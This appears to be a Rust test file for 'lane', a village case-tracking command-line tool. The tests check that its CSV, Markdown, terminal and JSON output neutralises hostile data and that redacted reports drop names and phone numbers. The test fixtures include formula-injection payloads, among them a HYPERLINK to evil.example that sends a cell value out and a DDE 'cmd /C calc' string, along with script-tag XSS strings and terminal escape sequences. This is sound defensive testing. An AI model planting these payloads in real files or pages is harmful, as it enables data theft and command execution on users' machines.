//! What lane prints carries no attack from the data: every CSV neutralises cells a
//! spreadsheet would run as a formula (OWASP), Markdown escapes what it prints,
//! terminal output shows control characters instead of obeying them, JSON keeps the
//! data exactly. And `lane report --redact` names no leader or household head in any
//! format, while phone numbers are in no report at all.
//!
//! lane prints no HTML; a Markdown report turned into HTML by another tool gets
//! escaped text (`\<script\>`), never a tag.

use crate::harness::{csv_rows, json, Village};

const EVIL_ALLEY: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")";
const EVIL_MD: &str = "| ** <script>alert(1)</script>";
const EVIL_LEADER: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const EVIL_TITLE: &str = "=cmd|' /C calc'!A0 \u{1b}]0;pwned\u{7} <script>x</script>";

/// A village whose every text field is hostile, with one overdue case, a patrol and
/// hostile names in lane.toml.
fn hostile() -> Village {
    let mut v = Village::new();
    let csv = |rows: &[Vec<&str>]| -> String {
        rows.iter()
            .map(|r| {
                lane::store::csvfile::encode_row(
                    &r.iter().map(|s| s.to_string()).collect::<Vec<_>>(),
                    false,
                )
            })
            .collect()
    };
    v.write(
        "alleys.csv",
        csv(&[
            vec!["id", "name", "group", "leader", "note"],
            vec!["A01", EVIL_ALLEY, "-1+1", "L01", "+cmd"],
            vec!["A02", EVIL_MD, "\t=1", "L02", "[x](http://evil.example)"],
        ]),
    );
    v.write(
        "leaders.csv",
        csv(&[
            vec![
                "id",
                "name",
                "phone",
                "alley",
                "background",
                "selected_by",
                "since",
                "until",
                "note",
            ],
            vec![
                "L01",
                EVIL_LEADER,
                "+86 138 0000 0001",
                "A01",
                "cadre",
                "two-committees",
                "2021-03-01",
                "",
                "＝HYPERLINK(1)",
            ],
            vec![
                "L02",
                "<img src=x onerror=alert(1)>",
                "13800000002",
                "A02",
                "cadre",
                "two-committees",
                "2021-03-01",
                "",
                "-2+3+cmd",
            ],
        ]),
    );
    v.write(
        "households.csv",
        csv(&[
            vec![
                "id", "head", "alley", "address", "members", "phone", "tags", "note",
            ],
            vec![
                "H0001",
                "+SUM(1)",
                "A01",
                "\t=1",
                "3",
                "+86 139 0000 0001",
                "@x",
                "**bold** _i_ `c` # h",
            ],
            vec!["H0002", "王秀英", "A02", "", "", "", "", ""],
        ]),
    );
    let toml = v.read("lane.toml");
    v.write(
        "lane.toml",
        toml.replace("\"hidden safety hazard\"", "\"=HYPERLINK(\\\"x\\\")\"")
            .replace("\"village party branch\"", "\"@level <b>\""),
    );
    v.now = "2026-11-20T10:00".into();
    v.lane(&[
        "open",
        "--by=-L01",
        "--title",
        EVIL_TITLE,
        "--category",
        "hazard",
        "--household",
        "H0001",
        "--at",
        "2026-11-01T09:00",
        "--note",
        "@note",
    ])
    .ok();
    v.run("escalate 1 --reason =1+1 --by L01 --at 2026-11-02T09:00")
        .ok();
    v.run("patrol --leader L01 --kind inspection --note '=HYPERLINK(\"p\")' --at 2026-11-03")
        .ok();
    v
}

/// Every listing, in every format.
const LISTINGS: &[&[&str]] = &[
    &["alley", "list"],
    &["alley", "show", "A01"],
    &["leader", "list"],
    &["leader", "show", "L01"],
    &["household", "list"],
    &["household", "show", "H0001"],
    &["list"],
    &["overdue"],
    &["show", "1"],
    &["patrol", "list"],
    &["report", "--month", "2026-11"],
];

fn with_format<'a>(format: &'a str, args: &[&'a str]) -> Vec<&'a str> {
    let mut a = vec!["--format", format];
    a.extend_from_slice(args);
    a
}

/// Whether a spreadsheet would run the cell: OWASP's leading characters, and the
/// full-width forms; a plain number or phone number is data.
fn runs_as_formula(cell: &str) -> bool {
    let plain = {
        let body = cell.strip_prefix(['+', '-']).unwrap_or(cell);
        body.starts_with(|c: char| c.is_ascii_digit())
            && body
                .chars()
                .all(|c| c.is_ascii_digit() || " .()-".contains(c))
    };
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']) && !plain
}

#[test]
fn every_csv_lane_prints_neutralises_formulas() {
    let v = hostile();
    let mut neutralised = 0;
    for args in LISTINGS {
        let out = v.lane(&with_format("csv", args));
        // `household show` and `leader show` print a block per list after the
        // fields, each after a blank line and headed `# title`.
        let rows: Vec<Vec<String>> = out
            .ok()
            .split("\n\n")
            .map(|b| match b.strip_prefix("# ") {
                Some(t) => t.split_once('\n').map_or("", |(_, rest)| rest),
                None => b,
            })
            .flat_map(csv_rows)
            .collect();
        assert!(rows.len() > 1, "{args:?} printed no rows");
        for cell in rows.iter().flatten() {
            assert!(!runs_as_formula(cell), "{args:?}: {cell:?}");
            neutralised += usize::from(cell.starts_with('\''));
        }
    }
    // The hostile cells were there, and came out with the quote in front.
    assert!(neutralised >= 25, "{neutralised}");
    let list = csv_rows(
        v.run("--format csv household list")
            .ok()
            .to_string()
            .as_str(),
    );
    assert_eq!(list[1][1], "'+SUM(1)");
    assert_eq!(list[1][3], "'\t=1");
    // Phone numbers are data, left as they are.
    assert_eq!(list[1][5], "+86 139 0000 0001");
    let leaders = csv_rows(v.run("--format csv leader list").ok());
    assert!(leaders[1].contains(&"'＝HYPERLINK(1)".to_string()));
    assert!(leaders[1].contains(&"+86 138 0000 0001".to_string()));
}

/// Whether `pat` occurs in `md` without a backslash before it.
fn unescaped(md: &str, pat: &str) -> bool {
    md.match_indices(pat).any(|(i, _)| !md[..i].ends_with('\\'))
}

/// The cells of a Markdown table row: split on `|` that no backslash escapes.
fn md_cells(line: &str) -> usize {
    let mut n = 0;
    let mut escaped = false;
    for c in line.chars() {
        match c {
            '\\' if !escaped => escaped = true,
            '|' if !escaped => n += 1,
            _ => escaped = false,
        }
    }
    n
}

#[test]
fn markdown_escapes_what_it_prints() {
    let v = hostile();
    for args in LISTINGS {
        let out = v.lane(&with_format("md", args));
        let md = out.ok();
        for bad in ["<script", "<img", "<b>", "](http", "**bold**", "`c`"] {
            assert!(!unescaped(md, bad), "{args:?} printed {bad:?}:\n{md}");
        }
        assert!(!md.contains(['\u{1b}', '\u{7}']), "{args:?}");
        // Every row of a table has as many cells as its header.
        let mut width = None;
        for line in md.lines() {
            if !line.starts_with('|') {
                width = None;
                continue;
            }
            let n = md_cells(line);
            match width {
                None => width = Some(n),
                Some(w) => assert_eq!(n, w, "{args:?}: {line}"),
            }
        }
    }
    let md = v.run("--format md alley list").out();
    assert!(md
        .ok()
        .contains("\\| \\*\\* \\<script\\>alert(1)\\</script\\>"));
}

#[test]
fn the_terminal_never_gets_a_control_character_from_the_data() {
    let v = hostile();
    for args in LISTINGS {
        let out = v.lane(args);
        for c in ['\u{1b}', '\u{7}'] {
            assert!(!out.ok().contains(c), "{args:?}: {:?}", out.stdout);
            assert!(!out.stderr.contains(c), "{args:?}: {:?}", out.stderr);
        }
    }
    assert!(v.run("show 1").ok().contains("\\u{1b}]0;pwned\\u{7}"));
    // Nor through an error message that quotes what was typed or read.
    let out = v.lane(&["alley", "show", "A\u{1b}[2J"]);
    assert_eq!(out.code, 2);
    assert!(!out.stderr.contains('\u{1b}'), "{:?}", out.stderr);
    v.write(
        "alleys.csv",
        "id,name,group,leader,note\nA01,x\u{1b}[2J,g,,\n",
    );
    let out = v.run("check").out();
    assert!(
        !out.stdout.contains('\u{1b}') && out.stdout.contains("control character '\\u{1b}'"),
        "{:?}",
        out.stdout
    );
}

#[test]
fn json_keeps_the_data_exactly() {
    let v = hostile();
    let list = json(v.run("--format json list").ok());
    assert_eq!(list[0]["title"], EVIL_TITLE);
    let alleys = json(v.run("--format json alley list").ok());
    assert_eq!(alleys[0]["name"], EVIL_ALLEY);
    assert_eq!(alleys[1]["name"], EVIL_MD);
}

/// The seeded village with a case in each alley in November 2026.
fn reported() -> Village {
    let v = Village::new();
    v.seed();
    for (alley, day) in [("A01", "05"), ("A02", "06")] {
        let at = format!("2026-11-{day}T09:00");
        v.lane(&[
            "open",
            "--by",
            "L01",
            "--title",
            "t",
            "--category",
            "hazard",
            "--alley",
            alley,
            "--at",
            &at,
        ])
        .ok();
    }
    v
}

const LEADERS: &[&str] = &["张桂兰", "李德明"];
const HEADS: &[&str] = &["王秀英", "赵国强", "刘玉兰"];
const PHONES: &[&str] = &["13800000001", "13800000002", "13900000001", "13900000003"];

#[test]
fn a_redacted_report_names_no_one_and_no_report_has_a_phone() {
    let v = reported();
    for format in ["table", "md", "csv", "json"] {
        let plain = v.lane(&["--format", format, "report", "--month", "2026-11"]);
        let redacted = v.lane(&[
            "--format", format, "report", "--month", "2026-11", "--redact",
        ]);
        for out in [plain.ok(), redacted.ok()] {
            for p in PHONES {
                assert!(!out.contains(p), "{format}: a phone number in the report");
            }
        }
        for name in LEADERS.iter().chain(HEADS) {
            assert!(
                !redacted.stdout.contains(name),
                "{format} --redact names {name}:\n{}",
                redacted.stdout
            );
        }
        // Without --redact the names are there (the CSV has numbers only), so the
        // test above could fail.
        if format != "csv" {
            assert!(plain.stdout.contains("张桂兰"), "{format}");
            assert!(plain.stdout.contains("王秀英"), "{format}");
        }
        // The numbers are the same.
        if format == "csv" {
            assert_eq!(plain.stdout, redacted.stdout);
        }
    }
    // Household IDs stay, so the village can still find who was not served.
    let j = json(v.run("--format json report --month 2026-11 --redact").ok());
    assert_eq!(
        j["last_person"][0]["households"][0],
        serde_json::json!({"id": "H0001"})
    );
    assert!(j["alleys"][0].get("leader").is_none());
}

/// The data folder's own CSV files are data: lane keeps their bytes, and `lane
/// check` points at the cells a spreadsheet would run, for the clerk who opens the
/// file itself.
#[test]
fn check_warns_of_formula_cells_in_the_folder_s_own_csv_files() {
    let v = hostile();
    let before = v.snapshot();
    let cells = [
        ("alleys.csv:2", "name"),
        ("alleys.csv:2", "group"),
        ("alleys.csv:2", "note"),
        ("alleys.csv:3", "group"),
        ("leaders.csv:2", "name"),
        ("leaders.csv:2", "note"),
        ("leaders.csv:3", "note"),
        ("households.csv:2", "head"),
        ("households.csv:2", "address"),
        ("households.csv:2", "tags"),
        ("patrols/2026-11.csv:2", "note"),
    ];
    let expected: String = cells
        .iter()
        .map(|(at, col)| {
            let file = at.split(':').next().unwrap();
            format!(
                "{at}: warning: column `{col}` starts like a spreadsheet formula; lane prints it \
                 neutralised, but look at it before opening {file} itself in a spreadsheet\n"
            )
        })
        .collect();
    // Warnings only: the phone numbers (`+86 ...`) are not among them.
    v.run("check")
        .stdout(&expected)
        .stderr("checked 2 alleys, 2 leaders, 2 households, 1 case: 0 errors, 11 warnings\n")
        .success();
    v.assert_unchanged(&before);
}
